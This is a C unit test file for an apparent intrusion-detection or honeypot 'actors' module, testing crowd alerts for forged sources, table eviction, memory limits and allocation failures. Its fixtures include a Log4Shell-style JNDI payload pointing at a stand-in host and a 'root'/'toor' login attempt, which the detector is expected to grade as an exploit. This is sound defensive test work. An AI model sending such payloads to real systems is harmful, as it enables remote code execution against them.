/* actors: what happens when there are too many of them, and when memory ends. */
#include "actor_rig.h"

#include "support/fault_alloc.h"

/* Forged sources by the thousand. */
static void a_crowd_is_a_few_alerts(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.actors_max = 1000;
    rig_open(&r, NULL);
    for (unsigned i = 0; i < 50000; i++) {
        char source[32];
        (void)snprintf(source, sizeof source, "10.%u.%u.%u", 1 + i / 65536, i / 256 % 256, i % 256);
        assert_int_equal(rig_touch(&r, source, (uint16_t)(i + 1), CT_TECHNIQUE_SYN), CT_OK);
    }
    assert_int_equal(r.n, 21);
    rig_wait(&r, 10000);
    const struct ct_actor_event *e = &rig_last(&r)->e;
    assert_true(e->crowd);
    assert_int_equal(e->n_sources, 49980);
    assert_int_equal(e->n_sources_shown, 16);
    assert_int_equal(e->tcp.n, 49980);
    struct ct_actor_stats s;
    ct_actors_stats(r.actors, &s);
    assert_int_equal(s.crowd, 49980);
    assert_int_equal(s.actors, 1000);
    assert_int_equal(s.evicted_told, 0); /* the twenty that were told of stay: forged ones displace each other */
    assert_int_equal(s.evicted_quiet, 49000);
    /* One of them comes with a payload: it has its own alert at once. */
    assert_int_equal(rig_session(&r, "10.1.195.79", 80, "http", "${jndi:ldap://10.6.6.6/a}"), CT_OK);
    assert_false(rig_last(&r)->e.crowd);
    assert_string_equal(rig_last(&r)->source, "10.1.195.79");
    assert_string_equal(rig_last(&r)->grade, "exploit");
    /* It disperses, and another is another. */
    unsigned char first[16];
    for (size_t i = 0; i < r.n; i++)
        if (r.events[i].e.crowd) memcpy(first, r.events[i].e.actor, 16);
    for (int i = 0; i < 50; i++) rig_wait(&r, 60000);
    for (unsigned i = 0; i < 300; i++) {
        char source[32];
        (void)snprintf(source, sizeof source, "10.7.%u.%u", i / 256, i % 256);
        assert_int_equal(rig_touch(&r, source, 22, CT_TECHNIQUE_SYN), CT_OK);
    }
    rig_wait(&r, 10000);
    for (size_t i = r.n; i-- > 0;) {
        if (!r.events[i].e.crowd) continue;
        assert_memory_not_equal(first, r.events[i].e.actor, 16);
        assert_int_equal(r.events[i].e.n_sources, 280);
        break;
    }
    rig_done(&r);
}

static void a_full_table_says_who_gives_way(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.actors_max = 4;
    rig_open(&r, NULL);
    for (unsigned i = 0; i < 6; i++) {
        char source[32];
        (void)snprintf(source, sizeof source, "10.0.0.%u", i);
        assert_int_equal(rig_session(&r, source, 80, "http", "x"), CT_OK);
        rig_wait(&r, 10);
    }
    struct ct_actor_stats s;
    ct_actors_stats(r.actors, &s);
    assert_int_equal(s.evicted_told, 2);
    assert_int_equal(s.told_ended, 2);
    assert_int_equal(r.n, 8);
    size_t gone = 0;
    for (size_t i = 0; i < r.n; i++) {
        if (r.events[i].e.news != CT_ACTOR_ENDED) continue;
        char want[32];
        (void)snprintf(want, sizeof want, "10.0.0.%zu", gone++);
        assert_string_equal(r.events[i].source, want);
        assert_true(r.events[i].e.evicted);
    }
    assert_int_equal(gone, 2);
    rig_done(&r);
}

static void memory_has_its_limit(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.memory_max = 100000; /* about ten bitmaps */
    rig_open(&r, NULL);
    struct ct_actor_stats s;
    for (unsigned i = 0; i < 40; i++) {
        char source[32];
        (void)snprintf(source, sizeof source, "10.0.0.%u", i);
        for (uint16_t port = 1; port < 3000; port += 2) assert_int_equal(rig_touch(&r, source, port, CT_TECHNIQUE_CONNECT), CT_OK);
        ct_actors_stats(r.actors, &s);
        assert_true(s.memory <= 100000);
        rig_wait(&r, 3000);
    }
    assert_true(s.evicted_told > 20);
    assert_int_equal(s.forgotten, 0);
    rig_done(&r);
}

static void without_memory_it_still_tells(void **state)
{
    (void)state;
    for (int persistent = 0; persistent < 2; persistent++)
        for (unsigned n = 0;; n++) {
            struct fault_alloc f;
            struct rig r;
            rig_init(&r);
            fault_alloc_init(&f, n, persistent);
            ct_err err = ct_actors_new(&f.alloc, &r.opts, &r.actors);
            if (err != CT_OK) {
                assert_int_equal(err, CT_ERR_NOMEM);
                assert_int_equal(f.live, 0);
                r.actors = NULL;
                rig_done(&r);
                continue;
            }
            ct_err worst = CT_OK, e;
            for (uint16_t port = 1; port < 1200; port += 2)
                if ((e = rig_touch(&r, "10.0.0.7", port, CT_TECHNIQUE_CONNECT)) != CT_OK) worst = e;
            if ((e = rig_login(&r, "10.0.0.7", 22, "root", "toor")) != CT_OK) worst = e;
            if ((e = rig_session(&r, "10.0.0.7", 80, "http", "${jndi:ldap://10.6.6.6/a}")) != CT_OK) worst = e;
            rig_wait(&r, 10000);
            /* A connection whose port found no place is counted once more when it speaks. */
            uint64_t touches = rig_last(&r)->e.touches;
            assert_true(touches >= 602 && touches <= (f.failed ? 604 : 602));
            assert_int_equal(rig_last(&r)->e.logins_tried, 1);
            assert_string_equal(rig_last(&r)->grade, "exploit");
            assert_int_equal(worst, f.failed ? CT_ERR_NOMEM : CT_OK);
            ct_actors_free(r.actors);
            r.actors = NULL;
            assert_int_equal(f.live, 0);
            bool failed = f.failed;
            rig_done(&r);
            if (!failed) break;
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_crowd_is_a_few_alerts),
        cmocka_unit_test(a_full_table_says_who_gives_way),
        cmocka_unit_test(memory_has_its_limit),
        cmocka_unit_test(without_memory_it_still_tells),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
